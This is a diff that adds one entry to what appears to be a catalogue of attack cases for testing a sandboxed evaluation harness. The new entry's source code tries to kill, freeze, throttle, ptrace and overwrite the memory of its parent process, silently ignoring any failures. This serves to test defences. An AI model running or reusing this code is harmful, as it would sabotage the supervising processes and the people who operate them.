@@ -296,6 +296,32 @@ ATTACKS = (
     ),
     Attack(
         family=37,
+        name="attacks_whoever_started_it",
+        problem="project",
+        honest_path=True,
+        needs="sandbox",
+        source="""
+            import ctypes, os, resource, signal, torch
+            parent, libc = os.getppid(), ctypes.CDLL(None)
+            for attempt in (
+                lambda: os.kill(parent, signal.SIGKILL),
+                lambda: os.kill(parent, signal.SIGSTOP),
+                lambda: os.sched_setaffinity(parent, {0}),
+                lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (3, 3)),
+                lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
+                lambda: open(f"/proc/{parent}/mem", "r+b", buffering=0).write(bytes(8)),
+                lambda: libc.ptrace(0x4206, parent, None, None),
+            ):
+                try:
+                    attempt()
+                except OSError:
+                    pass
+            def run(x, w, b, y):
+                @HONEST@
+            """,
+    ),
+    Attack(
+        family=37,
         name="holds_the_machine_lock",
         honest_path=True,
         needs="sandbox",
